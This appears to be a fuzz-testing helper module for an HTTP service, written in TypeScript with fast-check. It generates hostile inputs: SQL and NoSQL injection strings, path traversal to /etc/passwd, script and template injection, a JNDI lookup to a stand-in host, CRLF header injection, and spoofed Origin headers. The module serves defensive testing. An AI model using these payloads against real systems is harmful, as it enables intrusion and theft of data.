/**
 * Hostile values and the ways they reach a request, shared by every endpoint's generator: injection
 * strings, odd numbers, unicode and lone surrogates, hex, percent- and WTF-8-encodings, bracketed and
 * flooded query strings, weird methods, header noise and Origin/Referer variants.
 */
import fc from 'fast-check';

const BIG = (10n ** 80n).toString();
const UINT256 = (1n << 256n).toString();
export const INJECTIONS = [
  "' OR 1=1--",
  "'; DROP TABLE positions;--",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  "1' UNION SELECT key_id, secret_hash FROM api_keys--",
  '$where',
  '{"$where":"sleep(1000)"}',
  '{"$gt":""}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  'a\u0000b',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the injection string itself
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '\\',
  '\r\nX-Injected: 1',
  '\nSet-Cookie: a=b',
];
export const NUMBERS = [
  '0',
  '-0',
  '00',
  '-1',
  '1.5',
  '1e6',
  '1e308',
  '1e309',
  '-1e308',
  '5e-324',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '0b1',
  '1n',
  '1_000',
  ' 1',
  '1 ',
  '+1',
  '１２３',
  '٣',
  BIG,
  UINT256,
  '9'.repeat(100),
  String(Number.MAX_SAFE_INTEGER + 2),
  ((1n << 248n) - 1n).toString(),
  (1n << 248n).toString(),
];
export const UNICODE = [
  '\u202Eevil\u202C',
  '\u200B',
  '\u200D\u200D',
  '\uFEFF',
  'USDC\u200B',
  'US\u00ADDC',
  '💥',
  '👨‍👩‍👧‍👦',
  'e\u0301',
  '𝕌𝕊𝔻ℂ',
  'ＵＳＤＣ',
  'İ',
  'ß',
  'ǅ',
  'ﷺ',
  '\uD800',
  '\uDFFF',
  'a\uD83Db',
  '\u0085',
  '\u2028',
];

/**

 * Strings of code points up to `max` (fc.string's 'binary' and 'grapheme' units build a reverse map of
 * all of Unicode when created: seconds of CPU for nothing here).
 */
export function codePoints(max: number, maxLength: number): fc.Arbitrary<string> {
  return fc
    .array(fc.integer({ min: 0, max }), { maxLength })
    .map((codes) =>
      codes.map((c) => (max > 0xffff && c >= 0xd800 && c <= 0xdfff ? 'x' : String.fromCodePoint(c))).join(''),
    );
}

export const nasty: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...INJECTIONS), weight: 4 },
  { arbitrary: fc.constantFrom(...NUMBERS), weight: 4 },
  { arbitrary: fc.constantFrom(...UNICODE), weight: 3 },
  { arbitrary: codePoints(0x10ffff, 30), weight: 3 },
  // UTF-16 code units: lone surrogates included.
  { arbitrary: codePoints(0xffff, 20), weight: 2 },
  { arbitrary: codePoints(0x7f, 12), weight: 2 },
  { arbitrary: fc.constantFrom(200, 1000, 5000).map((n) => 'a'.repeat(n)), weight: 1 },
);

export const hex = (n: number) =>
  fc.string({ unit: fc.constantFrom(...'0123456789abcdefABCDEF'), minLength: n, maxLength: n });
export const hash64 = hex(64).map((h) => `0x${h}`);
/** Mixed case at random: mostly a bad EIP-55 checksum. */
export const address = hex(40).map((h) => `0x${h}`);

/** UTF-8, with lone surrogates as their 3-byte (WTF-8) forms: invalid UTF-8 on purpose. */
export function wtf8(text: string): number[] {
  const bytes: number[] = [];
  for (let i = 0; i < text.length; i++) {
    let code = text.charCodeAt(i);
    const next = text.charCodeAt(i + 1);
    if (code >= 0xd800 && code <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
      code = 0x10000 + ((code - 0xd800) << 10) + (next - 0xdc00);
      i++;
    }
    if (code < 0x80) bytes.push(code);
    else if (code < 0x800) bytes.push(0xc0 | (code >> 6), 0x80 | (code & 63));
    else if (code < 0x10000) bytes.push(0xe0 | (code >> 12), 0x80 | ((code >> 6) & 63), 0x80 | (code & 63));
    else
      bytes.push(
        0xf0 | (code >> 18),
        0x80 | ((code >> 12) & 63),
        0x80 | ((code >> 6) & 63),
        0x80 | (code & 63),
      );
  }
  return bytes;
}
export const pct = (text: string) =>
  wtf8(text)
    .map((b) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

/** How a value lands in a query string or path: encoded, double-encoded, raw, or a broken escape. */
export const encoded = (value: fc.Arbitrary<string>) =>
  fc.tuple(value, fc.nat(99)).map(([v, roll]) => {
    if (roll < 70) return pct(v);
    if (roll < 78) return pct(pct(v));
    if (roll < 86) return v.replace(/ /g, '+');
    if (roll < 93) return `${pct(v)}%${roll % 2 ? 'E0%A4%A' : 'zz'}`;
    return v; // raw: non-ASCII, spaces, '#', '&' as they are
  });

/** More parameters than qs parses (its parameterLimit is 1000). */

const FLOOD = Array.from({ length: 1200 }, (_, i) => `p${i}=1`).join('&');

/** `name=v`, repeated, `name[]`, `name[x]`, deep brackets, dotted, prototype keys, bare names. */
export function queryOf(
  names: string[],
  value: (name: string) => fc.Arbitrary<string>,
): fc.Arbitrary<string> {
  const pair = fc
    .constantFrom(...names, 'x', '__proto__', 'constructor')
    .chain((name) =>
      fc.tuple(
        fc.constantFrom(
          name,
          name,
          name,
          name,
          `${name}[]`,
          `${name}[0]`,
          `${name}[b]`,
          `${name}[__proto__]`,
          `${name}.b`,
          `${name}${'[a]'.repeat(30)}`,
          pct(name),
          name.toUpperCase(),
        ),
        encoded(value(name)),
        fc.nat(19),
      ),
    );
  return fc.array(pair, { maxLength: 6 }).chain((pairs) =>
    fc.nat(39).map((roll) => {
      const parts = pairs.map(([n, v, r]) => (r === 0 ? n : r === 1 ? `${n}=` : `${n}=${v}`));
      if (roll === 0) parts.push(FLOOD);
      if (roll === 1) parts.push('&&&=&=x&%26');
      return parts.length === 0 ? '' : `?${parts.join('&')}`;
    }),
  );
}

export const METHODS = [
  'POST',
  'PUT',
  'DELETE',
  'PATCH',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'MKCOL',
  'PURGE',
  'SEARCH',
  'LINK',
  'CONNECT',
  'FOO',
  'get',
  'G ET',
  'GET\u0000',
];
export const method = (main: 'GET' | 'POST') =>
  fc.oneof(
    { arbitrary: fc.constant(main), weight: 80 },
    { arbitrary: fc.constant(main === 'GET' ? 'HEAD' : 'GET'), weight: 6 },
    { arbitrary: fc.constantFrom(...METHODS), weight: 14 },
  );

/** Headers nobody should be able to use against the service: CR/LF, NUL, huge, many, conflicting. */
export const noise: fc.Arbitrary<[string, string][]> = fc.oneof(
  { arbitrary: fc.constant<[string, string][]>([]), weight: 60 },
  {
    weight: 40,
    arbitrary: fc.array(
      fc.oneof(
        fc.tuple(
          fc.constant('X-Injected-Test'),
          fc.constantFrom('a\r\nX-Injected: 1', 'a\r\nSet-Cookie: x=1'),
        ),
        fc.tuple(fc.constantFrom('X-A', 'Accept', 'Cookie', 'User-Agent'), nasty),
        fc.tuple(
          fc.constant('X-Big'),
          fc.constantFrom(100, 8000, 20_000).map((n) => 'b'.repeat(n)),
        ),
        fc.tuple(fc.constant('X-Lf'), fc.constantFrom('a\nb', 'a\rb', 'a\u0000b', ' folded\r\n continued')),
        fc.tuple(
          fc.constant('X-Forwarded-For'),
          fc.constantFrom('unknown', '1.2.3.4, evil', '', 'x'.repeat(300)),
        ),
        fc.tuple(fc.constantFrom('Expect'), fc.constantFrom('100-continue', 'foo', '')),
        fc.tuple(fc.constant('Host'), fc.constantFrom('', 'evil.example', 'a b', '[::1]:1', 'h'.repeat(500))),
        fc.tuple(fc.constant('Content-Length'), fc.constantFrom('-1', 'abc', '1, 2', '99999999999999999999')),
        fc.tuple(fc.constant('Transfer-Encoding'), fc.constantFrom('chunked, gzip', 'identity', 'xchunked')),
        fc.tuple(fc.constant('Upgrade'), fc.constant('websocket')),
        fc.tuple(fc.constant('If-None-Match'), fc.constant('*')),
        fc.tuple(fc.constant('Range'), fc.constant('bytes=0-1')),
        fc.tuple(fc.constant('Accept-Encoding'), fc.constant('gzip, br, zstd')),
      ),
      { minLength: 1, maxLength: 4 },
    ),
  },
  {
    arbitrary: fc.constant(Array.from({ length: 300 }, (_, i) => [`X-H${i}`, 'v'] as [string, string])),
    weight: 2,
  },
);

function operatorOrigins(port: number): string[] {
  return [`http://127.0.0.1:${port}`, `http://localhost:${port}`];
}

/**
 * Origin/Referer: operator pages, look-alikes, opaque and non-HTTP origins, garbage, both or none
 * (`port`: the service's, whose pages are the operator's).
 */
export function originHeaders(port: number): fc.Arbitrary<[string, string][]> {
  const good = fc.constantFrom(...operatorOrigins(port));
  const bad = fc.oneof(
    fc.constantFrom(
      'null',
      '',
      'http://evil.example',
      `http://127.0.0.1:${port}.evil.example`,
      `http://127.0.0.1:${port}@evil.example`,
      `http://evil.example/http://127.0.0.1:${port}`,
      `https://127.0.0.1:${port}`,
      `http://127.0.0.1:${port + 1}`,
      `HTTP://LOCALHOST:${port}`,
      `http://[::1]:${port}`,
      'javascript:alert(1)',
      'file:///etc/passwd',
      `http://127.0.0.1:${port}\r\nX-Injected: 1`,
      `http://127.0.0.1:${port}\u0000`,
    ),
    nasty,
  );
  return fc.oneof(
    { weight: 30, arbitrary: good.map((o): [string, string][] => [['Origin', o]]) },
    {
      weight: 15,
      arbitrary: fc
        .tuple(good, nasty)
        .map(([o, p]): [string, string][] => [['Referer', `${o}/demo?${pct(p)}`]]),
    },
    { weight: 25, arbitrary: bad.map((o): [string, string][] => [['Origin', o]]) },
    { weight: 10, arbitrary: bad.map((o): [string, string][] => [['Referer', o]]) },
    {
      weight: 10,
      arbitrary: fc.tuple(bad, good).map(([b, g]): [string, string][] => [
        ['Origin', b],
        ['Referer', g],
      ]),
    },
    {
      weight: 5,
      arbitrary: fc.tuple(good, bad).map(([g, b]): [string, string][] => [
        ['Origin', g],
        ['Origin', b],
      ]),
    },
    { weight: 5, arbitrary: fc.constant<[string, string][]>([]) },
  );
}
